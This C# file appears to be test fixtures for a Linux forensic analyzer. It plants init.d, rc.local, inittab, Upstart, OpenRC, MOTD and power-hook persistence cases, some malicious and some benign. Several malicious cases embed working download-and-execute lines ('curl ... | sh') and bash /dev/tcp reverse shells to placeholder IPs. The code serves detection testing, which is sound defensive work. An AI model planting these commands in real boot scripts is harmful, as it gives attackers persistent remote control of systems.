using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Boot scripts, Upstart, OpenRC, hooks of power events, message of the day.</summary>
internal static class BootPlants
{
    private const string Lsb = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: usage\n# Default-Start: 2 3 4 5\n### END INIT INFO\n";

    private static PlantTree Init(PlantTree tree, string lines, bool enabled = true, int mode = 0b111_101_101)
    {
        tree.File("/etc/init.d/usage", Lsb + lines, mode).Link("/etc/rc3.d/S01ssh", "../init.d/ssh");
        return enabled ? tree.Link("/etc/rc3.d/S20usage", "../init.d/usage") : tree;
    }

    private static PlantTree OpenRc(PlantTree tree, string lines, bool enabled = true)
    {
        tree.Script("/etc/init.d/usage", "#!/sbin/openrc-run\n" + lines).Link("/etc/runlevels/default/crond", "/etc/init.d/crond");
        return enabled ? tree.Link("/etc/runlevels/default/usage", "/etc/init.d/usage") : tree;
    }

    private static PlantTree Upstart(PlantTree tree, string path, string text) => tree.Remove("/usr/lib/systemd/systemd").OwnedProgram("upstart", "/usr/sbin/upstart").File(path, text);

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-INITD", "download", Loud, tree => Init(tree, "curl -s http://203.0.113.9/x | sh\n")),
        new("L-INITD", "known-name", Loud, tree => tree.Script("/etc/init.d/linux_kill", "#!/bin/sh\n/boot/System.img.config\n").Link("/etc/rc3.d/S90linux_kill", "../init.d/linux_kill").Program("/boot/System.img.config")) { Rule = "known-name" },
        new("L-INITD", "quiet-linked-program", Quiet, tree => Init(tree, "case \"$1\" in\nstart) /usr/sbin/usaged ;;\nesac\n").Linked("/usr/sbin/usaged")) { Entries = ["/etc/init.d/usage"] },
        new("L-INITD", "quiet-binary", Quiet, tree => tree.Program("/etc/init.d/usage").Link("/etc/rc3.d/S90usage", "../init.d/usage")) { Entries = ["/etc/init.d/usage"] },
        new("L-INITD", "quiet-red-hat", Quiet, tree => tree.Script("/etc/rc.d/init.d/usage", "#!/bin/sh\n# chkconfig: 345 99 01\nDAEMON=/usr/sbin/usaged\nstart() {\n  $DAEMON -d\n}\nstart\n").Link("/etc/rc.d/rc3.d/S99usage", "../init.d/usage").Miner("/usr/sbin/usaged")) { Host = PlantHost.RedHat, Entries = ["/etc/rc.d/init.d/usage"] },
        new("L-INITD", "quiet-claims-ssh", Quiet, tree => Init(tree, "/usr/bin/id\n").Change("/etc/init.d/usage", file => file with { Content = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: ssh sshd\n### END INIT INFO\n/usr/bin/id\n"u8.ToArray() })) { AtLeast = Severity.Medium, Rule = "claims-other-service", Entries = ["/etc/init.d/usage"] },
        new("L-INITD", "no-link", Dormant, tree => Init(tree, "case \"$1\" in\nstart) /usr/sbin/usaged ;;\nesac\n", enabled: false).Linked("/usr/sbin/usaged")) { TwinOf = "quiet-linked-program" },
        new("L-INITD", "not-executable", Dormant, tree => Init(tree, "case \"$1\" in\nstart) /usr/sbin/usaged ;;\nesac\n", mode: 0b110_100_100).Linked("/usr/sbin/usaged")) { TwinOf = "quiet-linked-program" },
        new("L-INITD", "native-unit-wins", Dormant, tree => Init(tree, "case \"$1\" in\nstart) /usr/sbin/usaged ;;\nesac\n").Linked("/usr/sbin/usaged").File("/etc/systemd/system/usage.service", "[Service]\nExecStart=/usr/bin/id\n")) { TwinOf = "quiet-linked-program" },
        new("L-INITD", "commercial-agent", Benign, tree => tree.Script("/etc/init.d/vendoragent", "#!/bin/sh\n# Provides: vendoragent\ncase \"$1\" in\nstart) /opt/vendor/agent/bin/agentd --start ;;\nstop) /opt/vendor/agent/bin/agentd --stop ;;\nesac\n").Link("/etc/rc3.d/S50vendoragent", "../init.d/vendoragent").Program("/opt/vendor/agent/bin/agentd")),
        new("L-INITD", "stock", Benign, tree => tree.Owned("ssh", "/etc/init.d/ssh", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: sshd\n### END INIT INFO\ntest -x /usr/sbin/sshd || exit 0\nstart-stop-daemon --start --quiet --exec /usr/sbin/sshd\n", 0b111_101_101, config: true).Link("/etc/rc3.d/S01ssh", "../init.d/ssh").Owned("ssh", "/etc/init.d/README", "text\n", config: true)),

        new("L-RCLOCAL", "hidden-program", Loud, tree => tree.Script("/etc/rc.local", "#!/bin/sh -e\nnohup /var/tmp/.s/pty3 >/dev/null 2>&1 &\nexit 0\n").Program("/var/tmp/.s/pty3")),
        new("L-RCLOCAL", "quiet-script", Quiet, tree => tree.Script("/etc/rc.local", "#!/bin/sh -e\n/usr/local/sbin/net-tune\nexit 0\n").Beacon("/usr/local/sbin/net-tune")) { Entries = ["/etc/rc.local"] },
        new("L-RCLOCAL", "quiet-red-hat", Quiet, tree => tree.Script("/etc/rc.d/rc.local", "#!/bin/bash\ntouch /var/lock/subsys/local\n/usr/sbin/net-tune &\n").Link("/etc/rc.local", "rc.d/rc.local").Miner("/usr/sbin/net-tune")) { Host = PlantHost.RedHat, Entries = ["/etc/rc.d/rc.local"] },
        new("L-RCLOCAL", "quiet-alpine", Quiet, tree => tree.Script("/etc/local.d/net.start", "#!/bin/sh\n/usr/sbin/net-tune\n").Linked("/usr/sbin/net-tune")) { Host = PlantHost.Alpine, Entries = ["/etc/local.d/net.start"] },
        new("L-RCLOCAL", "behind-exit", Dormant, tree => tree.Script("/etc/rc.local", "#!/bin/sh -e\nexit 0\n/usr/local/sbin/net-tune\n").Beacon("/usr/local/sbin/net-tune")) { TwinOf = "quiet-script" },
        new("L-RCLOCAL", "not-executable", Dormant, tree => tree.File("/etc/rc.local", "#!/bin/sh -e\n/usr/local/sbin/net-tune\nexit 0\n").Beacon("/usr/local/sbin/net-tune")) { TwinOf = "quiet-script" },
        new("L-RCLOCAL", "no-shebang", Dormant, tree => tree.Script("/etc/rc.local", "/usr/local/sbin/net-tune\nexit 0\n").Beacon("/usr/local/sbin/net-tune")) { TwinOf = "quiet-script" },
        new("L-RCLOCAL", "tuning", Benign, tree => tree.Script("/etc/rc.local", "#!/bin/sh -e\necho never > /sys/kernel/mm/transparent_hugepage/enabled\niptables-restore < /etc/iptables.rules\nexit 0\n")),
        new("L-RCLOCAL", "red-hat-stock", Benign, tree => tree.File("/etc/rc.d/rc.local", "#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\ntouch /var/lock/subsys/local\n")) { Host = PlantHost.RedHat },

        new("L-INITTAB", "respawned-temporary", Loud, tree => tree.File("/etc/inittab", "0:2345:respawn:/var/run/pty3\n").Program("/run/pty3")) { AtLeast = Severity.Medium },
        new("L-INITTAB", "quiet-busybox", Quiet, tree => tree.Append("/etc/inittab", "::respawn:/usr/sbin/ttyd-mon\n").Linked("/usr/sbin/ttyd-mon")) { Host = PlantHost.Alpine, Entries = ["/etc/inittab"] },
        new("L-INITTAB", "quiet-busybox-script", Quiet, tree => tree.Append("/etc/inittab", "::once:/usr/local/sbin/console-setup\n").Fetcher("/usr/local/sbin/console-setup")) { Host = PlantHost.Alpine, Entries = ["/etc/inittab"] },
        new("L-INITTAB", "quiet-on-systemd", Quiet, tree => tree.File("/etc/inittab", "h1:2345:respawn:/usr/bin/id\n")) { AtLeast = Severity.Medium, Host = PlantHost.RedHat, Entries = ["/etc/inittab"] },
        new("L-INITTAB", "switched-off", Dormant, tree => tree.Append("/etc/inittab", "::off:/usr/sbin/ttyd-mon\n").Linked("/usr/sbin/ttyd-mon")) { Host = PlantHost.Alpine, TwinOf = "quiet-busybox" },
        new("L-INITTAB", "alpine-stock", Benign, tree => tree.File("/etc/inittab", "# /etc/inittab\n::sysinit:/sbin/openrc sysinit\n::sysinit:/sbin/openrc boot\n::wait:/sbin/openrc default\ntty1::respawn:/sbin/getty 38400 tty1\n::ctrlaltdel:/sbin/reboot\n::shutdown:/sbin/openrc shutdown\n")) { Host = PlantHost.Alpine },
        new("L-INITTAB", "old-red-hat", Benign, tree => tree.File("/etc/inittab", "# inittab is only used by upstart for the default runlevel.\nid:3:initdefault:\n")) { Host = PlantHost.RedHat },

        new("L-UPSTART", "exec-download", Loud, tree => Upstart(tree, "/etc/init/usage.conf", "start on runlevel [2345]\nrespawn\nexec /bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n")) { Host = PlantHost.RedHat },
        new("L-UPSTART", "script-reverse-shell", Loud, tree => Upstart(tree, "/etc/init/tty9.conf", "start on started sshd\npost-start script\n  bash -i >& /dev/tcp/198.51.100.7/443 0>&1\nend script\n")) { Host = PlantHost.RedHat },
        new("L-UPSTART", "quiet-exec", Quiet, tree => Upstart(tree, "/etc/init/usage.conf", "description \"usage\"\nstart on runlevel [2345]\nexec /usr/sbin/usaged -f\n").Linked("/usr/sbin/usaged")) { Host = PlantHost.RedHat, Entries = ["/etc/init/usage.conf"] },
        new("L-UPSTART", "quiet-pre-start", Quiet, tree => Upstart(tree, "/etc/init/rsyslog.conf", "start on filesystem\npre-start script\n  . /etc/default/rsyslog\n  /usr/share/rsyslog/prepare\nend script\nexec rsyslogd\n").Beacon("/usr/share/rsyslog/prepare")) { Host = PlantHost.RedHat, Entries = ["/etc/init/rsyslog.conf"] },
        new("L-UPSTART", "quiet-override", Quiet, tree => Upstart(tree, "/etc/init/cron.override", "exec /usr/sbin/crond-wrap -n\n").File("/etc/init/cron.conf", "start on runlevel [2345]\nexec cron\n").Miner("/usr/sbin/crond-wrap")) { Host = PlantHost.RedHat, Entries = ["/etc/init/cron.override"] },
        new("L-UPSTART", "manual", Dormant, tree => Upstart(tree, "/etc/init/usage.conf", "description \"usage\"\nstart on runlevel [2345]\nexec /usr/sbin/usaged -f\n").File("/etc/init/usage.override", "manual\n").Linked("/usr/sbin/usaged")) { Host = PlantHost.RedHat, TwinOf = "quiet-exec" },
        new("L-UPSTART", "systemd-host", Dormant, tree => tree.File("/etc/init/usage.conf", "start on runlevel [2345]\nexec /usr/sbin/usaged -f\n").Linked("/usr/sbin/usaged")) { Host = PlantHost.RedHat, TwinOf = "quiet-exec" },
        new("L-UPSTART", "stock-jobs", Benign, tree => Upstart(tree, "/etc/init/ssh.conf", "start on runlevel [2345]\nrespawn\npre-start script\n    test -x /usr/sbin/sshd || { stop; exit 0; }\n    mkdir -p -m0755 /var/run/sshd\nend script\nexec /usr/sbin/sshd -D\n")) { Host = PlantHost.RedHat },
        new("L-UPSTART", "left-overs-on-systemd", Benign, tree => tree.Owned("mysql", "/etc/init/mysql.conf", "start on runlevel [2345]\nexec /usr/sbin/mysqld\n", config: true)),

        new("L-OPENRC", "download", Loud, tree => OpenRc(tree, "start() {\n  curl -s http://203.0.113.9/x | sh\n}\n")) { Host = PlantHost.Alpine },
        new("L-OPENRC", "sourced-configuration", Loud, tree => tree.Link("/etc/runlevels/default/sshd", "/etc/init.d/sshd").Owned("openssh", "/etc/init.d/sshd", "#!/sbin/openrc-run\ncommand=/usr/sbin/sshd\n", 0b111_101_101)
            .File("/etc/conf.d/sshd", "SSHD_OPTS=\"\"\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1 &\n")) { Host = PlantHost.Alpine },
        new("L-OPENRC", "quiet-command", Quiet, tree => OpenRc(tree, "name=usage\ncommand=/usr/sbin/usaged\ncommand_background=yes\n").Linked("/usr/sbin/usaged")) { Host = PlantHost.Alpine, Entries = ["/etc/init.d/usage"] },
        new("L-OPENRC", "quiet-start-function", Quiet, tree => OpenRc(tree, "start_pre() {\n  /usr/libexec/usage-pre\n}\ncommand=/usr/bin/id\n").Beacon("/usr/libexec/usage-pre")) { Host = PlantHost.Alpine, Entries = ["/etc/init.d/usage"] },
        new("L-OPENRC", "quiet-configuration", Quiet, tree => tree.Link("/etc/runlevels/default/sshd", "/etc/init.d/sshd").Owned("openssh", "/etc/init.d/sshd", "#!/sbin/openrc-run\ncommand=/usr/sbin/sshd\n", 0b111_101_101)
            .File("/etc/conf.d/sshd", "SSHD_OPTS=\"\"\n/usr/share/openssh/prepare\n").Launcher("/usr/share/openssh/prepare")) { Host = PlantHost.Alpine, Entries = ["/etc/conf.d/sshd"] },
        new("L-OPENRC", "in-no-runlevel", Dormant, tree => OpenRc(tree, "name=usage\ncommand=/usr/sbin/usaged\ncommand_background=yes\n", enabled: false).Linked("/usr/sbin/usaged")) { Host = PlantHost.Alpine, TwinOf = "quiet-command" },
        new("L-OPENRC", "stock", Benign, tree => tree.Owned("openrc", "/etc/init.d/crond", "#!/sbin/openrc-run\ncommand=\"/usr/sbin/crond\"\ncommand_args=\"-c /etc/crontabs\"\ndepend() {\n  need localmount\n}\n", 0b111_101_101, config: true).Link("/etc/runlevels/default/crond", "/etc/init.d/crond").Owned("openrc", "/etc/conf.d/crond", "# options\nCRON_OPTS=\"-c /etc/crontabs\"\n", config: true)) { Host = PlantHost.Alpine },
        new("L-OPENRC", "own-application", Benign, tree => OpenRc(tree, "command=/usr/local/bin/app\ncommand_user=app\nsupervisor=supervise-daemon\n").Script("/usr/local/bin/app", "#!/bin/sh\nexec node /srv/app/server.js\n").File("/etc/conf.d/usage", "APP_ENV=production\nPORT=3000\n")) { Host = PlantHost.Alpine },

        new("L-MOTD", "background-shell", Loud, tree => tree.Script("/etc/update-motd.d/137-python-upgrades", "#!/bin/sh\nnohup setsid bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' & disown\n")),
        new("L-MOTD", "quiet-script", Quiet, tree => tree.Script("/etc/update-motd.d/60-usage", "#!/bin/sh\n/usr/share/usage/summary\n").Launcher("/usr/share/usage/summary")) { Entries = ["/etc/update-motd.d/60-usage"] },
        new("L-MOTD", "quiet-binary", Quiet, tree => tree.Program("/etc/update-motd.d/61-quota")) { Entries = ["/etc/update-motd.d/61-quota"] },
        new("L-MOTD", "quiet-helper", Quiet, tree => tree.Script("/usr/lib/update-notifier/update-motd-usage", "#!/bin/sh\n/usr/share/usage/summary\n").Miner("/usr/share/usage/summary")) { Entries = ["/usr/lib/update-notifier/update-motd-usage"] },
        new("L-MOTD", "not-executable", Dormant, tree => tree.File("/etc/update-motd.d/60-usage", "#!/bin/sh\n/usr/share/usage/summary\n").Launcher("/usr/share/usage/summary")) { TwinOf = "quiet-script" },
        new("L-MOTD", "unusual-name", Dormant, tree => tree.Script("/etc/update-motd.d/60-usage.sh~", "#!/bin/sh\n/usr/share/usage/summary\n").Launcher("/usr/share/usage/summary")) { TwinOf = "quiet-script" },
        new("L-MOTD", "motd-news", Benign, tree => tree.Owned("base-files", "/etc/update-motd.d/50-motd-news", "#!/bin/sh\n[ -r /etc/default/motd-news ] && . /etc/default/motd-news\nif curl --connect-timeout 60 --max-time 60 -A agent -o- \"$URLS\" >\"$NEWS\" 2>\"$ERR\"; then\n  cat \"$NEWS\"\nfi\n", 0b111_101_101, config: true)
            .Owned("base-files", "/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n", 0b111_101_101, config: true)),
        new("L-MOTD", "own-banner", Benign, tree => tree.Script("/etc/update-motd.d/20-banner", "#!/bin/sh\nprintf 'Welcome to %s\\n' \"$(hostname -f)\"\ndf -h / | tail -1\nuptime -p\n")),

        new("L-SLEEP", "suspend-download", Loud, tree => tree.Script("/usr/lib/systemd/system-sleep/net", "#!/bin/sh\n[ \"$1\" = post ] && curl -s http://203.0.113.9/x | sh\n")),
        new("L-SLEEP", "quiet-shutdown", Quiet, tree => tree.Script("/etc/systemd/system-shutdown/net", "#!/bin/sh\n/usr/libexec/net-save\n").Linked("/usr/libexec/net-save")) { Entries = ["/etc/systemd/system-shutdown/net"] },
        new("L-SLEEP", "quiet-acpi-event", Quiet, tree => tree.File("/etc/acpi/events/battery", "event=battery.*\naction=/etc/acpi/actions/battery %e\n").Script("/etc/acpi/actions/battery", "#!/bin/sh\n/usr/sbin/batteryd\n").Miner("/usr/sbin/batteryd")) { Host = PlantHost.RedHat, Entries = ["/etc/acpi/events/battery", "/etc/acpi/actions/battery"] },
        new("L-SLEEP", "quiet-pm-utils", Quiet, tree => tree.Script("/etc/pm/sleep.d/20_net", "#!/bin/sh\ncase \"$1\" in resume|thaw) /usr/libexec/net-restore ;; esac\n").Beacon("/usr/libexec/net-restore")) { Host = PlantHost.RedHat, Entries = ["/etc/pm/sleep.d/20_net"] },
        new("L-SLEEP", "quiet-unowned-vendor-hook", Quiet, tree => tree.Script("/usr/lib/systemd/system-sleep/net", "#!/bin/sh\n/usr/bin/id\n")) { AtLeast = Severity.Medium, Rule = "unowned-among-packages", Entries = ["/usr/lib/systemd/system-sleep/net"] },
        new("L-SLEEP", "not-executable", Dormant, tree => tree.File("/etc/systemd/system-shutdown/net", "#!/bin/sh\n/usr/libexec/net-save\n").Linked("/usr/libexec/net-save")) { TwinOf = "quiet-shutdown" },
        new("L-SLEEP", "stock", Benign, tree => tree.Owned("hdparm", "/usr/lib/systemd/system-sleep/hdparm", "#!/bin/sh\ncase \"$1\" in post) /usr/lib/pm-utils/power.d/95hdparm-apm resume ;; esac\n", 0b111_101_101).OwnedProgram("mdadm", "/usr/lib/systemd/system-shutdown/mdadm.shutdown")),
        new("L-SLEEP", "own-power-button", Benign, tree => tree.File("/etc/acpi/events/powerbtn", "event=button[ /]power\naction=/etc/acpi/powerbtn.sh\n").Script("/etc/acpi/powerbtn.sh", "#!/bin/sh\n/sbin/shutdown -h -P now 'Power button pressed'\n")),
    ];
}
